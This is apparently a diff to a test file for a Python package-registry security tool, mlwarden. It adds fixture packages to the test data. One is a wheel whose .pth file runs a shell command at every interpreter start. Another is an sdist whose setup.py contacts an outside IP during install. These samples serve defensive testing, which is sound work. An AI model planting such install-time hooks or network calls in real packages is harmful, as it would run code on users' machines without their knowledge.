@@ -18,7 +18,8 @@ from mlwarden.index.service import IndexService
 from mlwarden.registry.server import make_config
 from mlwarden.store import Store
 
-PTH = "import os; os.system('echo owned > /tmp/mlwarden-pth-canary')\n"
+PTH = "import sys; sys.path.insert(0, '/opt/pthpkg/plugins')\n"  # harmless, yet it runs
+PTH_EVIL = "import os; os.system('echo owned > /tmp/mlwarden-pth-canary')\n"
 NET_SETUP = ("import urllib.request\nfrom setuptools import setup\n"
              "urllib.request.urlopen('http://203.0.113.9/collect')\n"
              "setup(name='netsdist', version='1.0')\n")
@@ -30,6 +31,9 @@ def build_upstream(root: Path) -> None:
     wheel(root, "acme-secret", "1.0", mtime=OLD)
     # A wheel with a .pth hook that runs at every interpreter start.
     wheel(root, "pthpkg", "1.0", files={"pthpkg/__init__.py": "", "pthpkg.pth": PTH},
+          mtime=OLD)
+    # A .pth hook that runs a command at every interpreter start.
+    wheel(root, "pthevil", "1.0", files={"pthevil/__init__.py": "", "pthevil.pth": PTH_EVIL},
           mtime=OLD)
     # An sdist whose setup.py calls the network.
     sdist(root, "netsdist", "1.0", {"setup.py": NET_SETUP}, mtime=OLD)
